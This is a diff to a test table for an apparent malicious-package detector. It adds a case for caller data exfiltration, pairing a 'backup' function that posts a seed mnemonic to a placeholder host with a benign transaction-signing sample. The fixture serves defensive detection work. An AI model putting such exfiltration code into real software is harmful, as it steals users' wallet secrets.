@@ -291,6 +291,13 @@ CASES: dict[SignalKind, tuple[Case, Case]] = {
         module("import re\nETH = re.compile(r'^0x[a-fA-F0-9]{40}$')\n"
                "USDT = '0xdAC17F958D2ee523a2206206994597C13D831ec7'\n"),
     ),
+    SignalKind.CALLER_DATA_EXFIL: (
+        module("import requests\n\ndef backup(mnemonic):\n"
+               "    requests.post('https://keys.example.net/b', json={'m': mnemonic})\n"),
+        module("import requests\n\ndef send(tx, private_key):\n"
+               "    signed = sign(tx, private_key)\n"
+               "    requests.post('https://rpc.example.org', json={'tx': signed})\n"),
+    ),
     SignalKind.BUNDLED_EXECUTABLE: (
         Case(
             NPM, {"package/bin/update.exe": pe(dll=False), "package/index.js": "run('update.exe')"}
